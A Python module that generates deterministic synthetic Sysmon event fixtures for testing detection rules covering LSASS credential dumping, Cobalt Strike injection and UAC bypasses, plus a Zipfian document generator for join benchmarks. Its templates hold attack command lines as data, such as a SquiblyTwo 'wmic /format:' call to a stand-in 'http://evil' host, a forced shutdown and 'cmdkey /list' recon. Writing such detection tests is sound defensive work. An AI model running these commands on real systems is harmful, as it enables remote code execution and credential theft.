"""Deterministic sysmon-event fixtures (FIXTURES.md §1).

For every reference rule there is a hand-crafted template row that satisfies
the rule's predicate AS WRITTEN — including the reference's fidelity bugs
(SURVEY.md §2.8): the glob-in-equality rule only fires on a literal
``*\\wsmprovhost.exe`` ParentImage, the LaZagne rule needs doubled
backslashes in CallTrace, Pypykatz needs a literal ``python3*.dll+``
substring.  Around the templates we generate mutated near-misses (one term
perturbed) and random noise rows.  Truth is decided by the DuckDB
differential oracle in tests — the generator only guarantees coverage.

Pure pyarrow (no Spark needed) so bench.py can also synthesize events fast.
"""

from __future__ import annotations

import random
from datetime import datetime, timedelta, timezone

import pyarrow as pa
import pyarrow.parquet as pq

from .schemas import EVENT_DATA_FIELDS

_BASE_TS = datetime(2024, 1, 1, tzinfo=timezone.utc)

# One satisfying assignment per reference rule (field -> value, plus event_id).
# Backslashes: a Python string below contains exactly the characters shown.
RULE_TEMPLATES: dict = {
    "Malware Shellcode in Verclsid Target Process": dict(
        event_id=10,
        TargetImage="C:\\Windows\\System32\\verclsid.exe",
        GrantedAccess="0x1FFFFF",
        CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+4f2a1|UNKNOWN(VBE7.DLL+100)",
    ),
    "Suspicious In-Memory Module Execution": dict(
        event_id=10,
        CallTrace="UNKNOWN",
        GrantedAccess="0x143A",
        SourceImage="C:\\Tools\\injector.exe",
    ),
    "Credential Dumping by LaZagne": dict(
        event_id=10,
        TargetImage="C:\\Windows\\System32\\lsass.exe",
        # doubled backslashes — the rule's LIKE needles contain \\\\ literally
        CallTrace=(
            "C:\\\\Windows\\\\SYSTEM32\\\\ntdll.dll+1a2b"
            "|C:\\\\Windows\\\\System32\\\\KERNELBASE.dll+3c4d"
            "|_ctypes.pyd+5e6f|python27.dll+7a8b"
        ),
        GrantedAccess="0x1FFFFF",
    ),
    "Suspect Svchost Memory Asccess": dict(
        event_id=10,
        TargetImage="C:\\WINDOWS\\System32\\svchost.exe",
        GrantedAccess="0x1F3FFF",
        CallTrace="C:\\Windows\\SYSTEM32\\ntdll.dll+2e11|UNKNOWN(00007FFA12345678)",
    ),
    "SVCHOST Credential Dump": dict(
        event_id=10,
        TargetImage="C:\\Windows\\System32\\svchost.exe",
        GrantedAccess="0x143a",
        SourceImage="C:\\Tools\\mimikatz.exe",
    ),
    "Suspicious Shells Spawn by WinRM": dict(
        # no event_id gate in the reference (bug §2.8.1); glob chars are literal
        event_id=10,
        ParentImage="*\\wsmprovhost.exe",
        Image="*\\cmd.exe",
    ),
    "UAC Bypass Using WOW64 Logger DLL Hijack": dict(
        event_id=10,
        SourceImage="C:\\Windows\\SysWOW64\\odbcad32.exe",
        GrantedAccess="0x1fffff",
        CallTrace="UNKNOWN(0000000000000000)|UNKNOWN(0000000000000000)|C:\\x.dll+1",
    ),
    "Direct Syscall of NtOpenProcess": dict(
        event_id=10,
        CallTrace="UNKNOWN(00007FFA99887766)",
    ),
    "CobaltStrike BOF Injection Pattern": dict(
        event_id=10,
        # regex wants: 'C:' + 2 backslashes + 'Windows' + 2 backslashes +
        # 'SYSTEM32' + 2 backslashes + 'ntdll' + 1 backslash + any char +
        # 'dll+' + [a-z0-9]{4,6} + '|' + ... + '|UNKNOWN(' + 16 hex + ')'
        CallTrace=(
            "C:\\\\Windows\\\\SYSTEM32\\\\ntdll\\.dll+ab12"
            "|C:\\\\Windows\\\\System32\\\\KERNELBASE\\.dll+cd34"
            "|UNKNOWN(ABCDEF0123456789)"
        ),
        GrantedAccess="0x1028",
    ),
    "LSASS Memory Dump": dict(
        event_id=10,
        TargetImage="C:\\Windows\\System32\\lsass.exe",
        GrantedAccess="0x1fffff",
        CallTrace="dbghelp.dll",  # the rule (mis)uses IN, so CallTrace must equal it
    ),
    "Lsass Memory Dump via Comsvcs DLL": dict(
        event_id=10,
        TargetImage="C:\\Windows\\System32\\lsass.exe",
        SourceImage="C:\\Windows\\System32\\rundll32.exe",
        CallTrace="C:\\Windows\\System32\\comsvcs.dll+123",
    ),
    "LittleCorporal Generated Maldoc Injection": dict(
        event_id=10,
        SourceImage="C:\\Program Files\\Microsoft Office\\winword.exe",
        CallTrace="C:\\Windows\\Microsoft.NET\\Framework64\\v2.0.50727\\x.dll|UNKNOWN(1)",
    ),
    "CMSTP Execution Process Access": dict(
        event_id=10,
        CallTrace="C:\\Windows\\System32\\cmlua.dll+44",
    ),
    "Load Undocumented Autoelevated COM Interface": dict(
        event_id=10,
        CallTrace="C:\\Windows\\System32\\editionupgrademanagerobj.dll+9",
    ),
    "Credentials Dumping Tools Accessing LSASS Memory": dict(
        event_id=10,
        TargetImage="C:\\Windows\\System32\\lsass.exe",
        GrantedAccess="0x1410",
        SourceImage="C:\\Tools\\nanodump.exe",
    ),
    "Credential Dumping by Pypykatz": dict(
        event_id=10,
        TargetImage="C:\\Windows\\System32\\lsass.exe",
        CallTrace=(
            "C:\\Windows\\SYSTEM32\\ntdll.dll+1a"
            "|C:\\Windows\\System32\\KERNELBASE.dll+2b"
            "|libffi-7.dll+3c|_ctypes.pyd+4d|python3*.dll+5e"  # literal '*' (bug §2.8.3)
        ),
        GrantedAccess="0x1FFFFF",
    ),
    "Mimikatz through Windows Remote Management": dict(
        event_id=10,
        TargetImage="C:\\Windows\\System32\\lsass.exe",
        SourceImage="C:\\Windows\\system32\\wsmprovhost.exe",
    ),
    # ---- process-creation job (windows-process-creation.sql) ----
    "Silenttrinity Stager Msbuild Activity": dict(
        event_id=3,
        ParentImage="C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\msbuild.exe",
        Initiated="true",
        DestinationPort="443",
    ),
    "Custom Class Execution via Xwizard": dict(
        event_id=1,
        Image="C:\\Windows\\System32\\xwizard.exe",
        # SIMILAR TO is full-string: CommandLine must be exactly the GUID form
        CommandLine="{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
    ),
    "Execution via CL_Invocation.ps1": dict(
        event_id=1,
        CommandLine="powershell -c . C:\\Windows\\diagnostics\\system\\Audio\\CL_Invocation.ps1; SyncInvoke evil.exe",
    ),
    "Execution via CL_Mutexverifiers.ps1": dict(
        event_id=1,
        CommandLine="powershell . CL_Mutexverifiers.ps1; runAfterCancelProcess evil.exe",
    ),
    "Cmdkey Cached Credentials Recon": dict(
        event_id=1,
        CommandLine="cmdkey /list",
        Image="C:\\Windows\\System32\\cmdkey.exe",
    ),
    "CMSTP UAC Bypass via COM Object Access": dict(
        event_id=1,
        ParentImage="C:\\Windows\\System32\\DllHost.exe",
        IntegrityLevel="High",
        ParentCommandLine="C:\\Windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
    ),
    "Suspicious Svchost Process": dict(
        event_id=1,
        Image="C:\\Windows\\System32\\svchost.exe",
        ParentImage="C:\\evil\\launcher.exe",
    ),
    "Suspect Svchost Activity": dict(
        event_id=1,
        CommandLine="C:\\Windows\\System32\\svchost.exe",
        Image="C:\\Windows\\System32\\svchost.exe",
        ParentImage="C:\\evil\\dropper.exe",
    ),
    # ---- disabled rules (kept for include_disabled coverage) ----
    "Snatch Ransomware": dict(
        event_id=1, CommandLine="cmd /c shutdown /r /f /t 00",
    ),
    "Data Compressed - rar.exe": dict(
        event_id=1, CommandLine="rar.exe a -r secret.rar C:\\docs",
        Image="C:\\Program Files\\WinRAR\\rar.exe",
    ),
    "Detecting Fake Instances Of Hxtsr.exe": dict(
        event_id=1, Image="hxtsr.exe", CurrentDirectory="C:\\Temp\\",
    ),
    "Xwizard DLL Sideloading": dict(
        event_id=1, Image="C:\\Temp\\xwizard.exe",
    ),
    "SquiblyTwo": dict(
        event_id=1,
        CommandLine="wmic os get /format:\"http://evil/x.xsl\"",
        Image="C:\\Windows\\System32\\wbem\\wmic.exe",
    ),
    "Change Default File Association": dict(
        event_id=1, CommandLine="cmd /c assoc .txt=evilfile",
    ),
}

_FIELD_POOL = {
    "GrantedAccess": ["0x1FFFFF", "0x1fffff", "0x1F3FFF", "0x143a", "0x143A", "0x1410",
                      "0x1010", "0x1438", "0x1028", "0x40", "0x1400", "0x1FFFFE", "0x0"],
    "TargetImage": ["C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\System32\\LSASS.EXE",
                    "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\verclsid.exe",
                    "C:\\Windows\\System32\\notepad.exe", "C:\\app\\lsass.exe.bak"],
    "SourceImage": ["C:\\Windows\\System32\\wmiprvse.exe", "C:\\Windows\\System32\\taskmgr.exe",
                    "C:\\Windows\\system32\\wsmprovhost.exe", "C:\\Windows\\System32\\rundll32.exe",
                    "C:\\Windows\\SysWOW64\\cmd.exe", "C:\\Tools\\random.exe",
                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"],
    "Image": ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\System32\\cmd.exe",
              "C:\\Windows\\System32\\cmdkey.exe", "C:\\Windows\\System32\\xwizard.exe",
              "C:\\Windows\\System32\\wbem\\wmic.exe", "hxtsr.exe", "*\\cmd.exe"],
    "ParentImage": ["C:\\Windows\\System32\\services.exe", "C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\System32\\DllHost.exe", "*\\wsmprovhost.exe",
                    "C:\\evil\\launcher.exe", "null"],
    "CallTrace": [
        "C:\\Windows\\SYSTEM32\\ntdll.dll+4f2a1|C:\\Windows\\System32\\KERNELBASE.dll+2e11",
        "UNKNOWN(00007FFA12345678)",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+1|UNKNOWN(VBE7.DLL)",
        "dbghelp.dll", "dbgcore.dll", "C:\\x\\comsvcs.dll+1", "C:\\x\\cmlua.dll+2",
    ],
    "CommandLine": ["C:\\Windows\\System32\\svchost.exe -k netsvcs", "cmdkey /list",
                    "cmd /c assoc", "wmic process list", "null",
                    "{3E5FC7F9-9A51-4367-9063-A120244FBEC7}", "powershell -enc AAA"],
    "IntegrityLevel": ["High", "System", "Medium", "Low"],
    "Initiated": ["true", "false"],
    "DestinationPort": ["80", "443", "8080", "22"],
    "ParentCommandLine": ["C:\\Windows\\system32\\svchost.exe -k DcomLaunch",
                          "DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}"],
    "CurrentDirectory": ["C:\\Temp\\", "C:\\Users\\admin\\"],
}

_HOSTS = ["WIN-HOST-01", "WIN-HOST-02", "WIN-DC-01", "WIN-SQL-01"]


def _mutate(rng: random.Random, template: dict) -> dict:
    """Perturb one term of a template to create a near-miss (or accidental hit —
    the oracle decides)."""
    row = dict(template)
    keys = [k for k in row if k != "event_id"]
    k = rng.choice(keys)
    v = row[k]
    choice = rng.randrange(5)
    if choice == 0:
        row[k] = v.upper()
    elif choice == 1:
        row[k] = v.lower()
    elif choice == 2:
        row[k] = v[:-1] if len(v) > 1 else None
    elif choice == 3:
        row[k] = None
    else:
        row["event_id"] = rng.choice([1, 3, 7, 10, 11])
    return row


def generate_sysmon_rows(n_rows: int = 2000, seed: int = 42) -> list:
    """Deterministic list of event dicts: templates + near-misses + noise."""
    rng = random.Random(seed)
    rows = []

    def finish(partial: dict, i: int) -> dict:
        ed = {f: partial.get(f) for f in EVENT_DATA_FIELDS}
        ts = _BASE_TS + timedelta(seconds=rng.randrange(0, 86_400), milliseconds=rng.randrange(1000))
        return dict(
            computer_name=rng.choice(_HOSTS),
            event_id=partial.get("event_id"),
            host=rng.choice(_HOSTS).lower(),
            event_data=ed if rng.random() > 0.01 else None,  # ~1% malformed
            uuid=f"uuid-{i:06d}",
            timestamp=ts,
        )

    i = 0
    for _ in range(3):  # three copies of each template so count-rules see bursts
        for tmpl in RULE_TEMPLATES.values():
            rows.append(finish(tmpl, i)); i += 1
    for tmpl in RULE_TEMPLATES.values():
        for _ in range(4):
            rows.append(finish(_mutate(rng, tmpl), i)); i += 1
    while len(rows) < n_rows:
        partial = {"event_id": rng.choice([1, 1, 3, 7, 10, 10, 11])}
        for f, pool in _FIELD_POOL.items():
            if rng.random() < 0.6:
                partial[f] = rng.choice(pool)
        rows.append(finish(partial, i)); i += 1
    # honor n_rows exactly: below the ~217 template+mutation rows the loop
    # above never truncates (callers sizing micro-fixtures would silently
    # get more rows than asked; note all-25-rules-fire needs the full
    # template set, so tiny fixtures trade that property knowingly)
    return rows[:n_rows]


def sysmon_arrow_table(n_rows: int = 2000, seed: int = 42) -> pa.Table:
    rows = generate_sysmon_rows(n_rows, seed)
    schema = pa.schema(
        [
            pa.field("computer_name", pa.string()),
            pa.field("event_id", pa.int64()),
            pa.field("host", pa.string()),
            pa.field("event_data", pa.struct([pa.field(f, pa.string()) for f in EVENT_DATA_FIELDS])),
            pa.field("uuid", pa.string()),
            pa.field("timestamp", pa.timestamp("us", tz="UTC")),
        ]
    )
    return pa.Table.from_pylist(rows, schema=schema)


def write_sysmon_parquet(path: str, n_rows: int = 2000, seed: int = 42) -> str:
    pq.write_table(sysmon_arrow_table(n_rows, seed), path)
    return path


# ---------------------------------------------------------------------------
# Zipfian documents: the corpus shape where prefix filtering EARNS its keep
# ---------------------------------------------------------------------------
# The driver's synthetic documents table is prefix filtering's worst case
# (a ~200-token shared vocabulary makes the >=0.9-similar OUTPUT itself
# quadratic), so the jaccard_exact_join catalog demo is input-capped and the
# filter never visibly prunes.  Real corpora are Zipfian: a short head of
# ubiquitous tokens and a long tail of rare ones.  Under the rarest-first
# global order the prefix holds each document's TAIL tokens, which almost
# never collide across unrelated documents — candidates collapse to
# ~planted-duplicate pairs instead of n(n-1)/2.


def generate_zipf_docs(
    n_docs: int = 1200,
    vocab_size: int = 20000,
    doc_len: int = 60,
    n_neardup: int = 40,
    seed: int = 7,
) -> list:
    """Deterministic log-uniform ("Zipf s≈1") token corpus with
    ``n_neardup`` planted >=0.9-Jaccard copies (2 of ~60 distinct tokens
    replaced).  Every document's tokens are DISTINCT, so engines that
    treat the split list as a set and ones that don't agree."""
    rng = random.Random(seed)
    base = []
    for _ in range(n_docs - n_neardup):
        toks = set()
        while len(toks) < doc_len:
            # inverse-CDF log-uniform rank in [1, vocab_size)
            r = int(vocab_size ** rng.random())
            toks.add(f"w{r:05d}")
        base.append(sorted(toks))
    docs = list(base)
    for k in range(n_neardup):
        src = list(base[rng.randrange(len(base))])
        for j in range(2):
            # replacement tokens live OUTSIDE the w-vocab: uniqueness keeps
            # the token list duplicate-free (distinct-set invariant above)
            src[rng.randrange(len(src))] = f"nd{k:03d}_{j}"
        docs.append(src)
    return [
        {"doc_id": i, "text": " ".join(d)} for i, d in enumerate(docs)
    ]


def write_zipf_docs_parquet(path: str, **kw) -> str:
    """Idempotent seed-pinned write (atomic rename) — safe as a shared
    /tmp fixture for catalog query + DuckDB oracle to read side-by-side.

    An existing file is reused only if its row count matches the requested
    ``n_docs`` — a stale file from different parameters (or a planted
    imposter at the well-known path) is rewritten, not silently trusted.
    """
    import os

    n_docs = int(kw.get("n_docs", 1200))
    if os.path.exists(path):
        try:
            if pq.read_metadata(path).num_rows == n_docs:
                return path
        except Exception:
            pass  # unreadable/foreign file: rewrite it
    schema = pa.schema(
        [pa.field("doc_id", pa.int64()), pa.field("text", pa.string())]
    )
    tmp = f"{path}.tmp.{os.getpid()}"
    pq.write_table(pa.Table.from_pylist(generate_zipf_docs(**kw), schema=schema), tmp)
    os.replace(tmp, path)
    return path
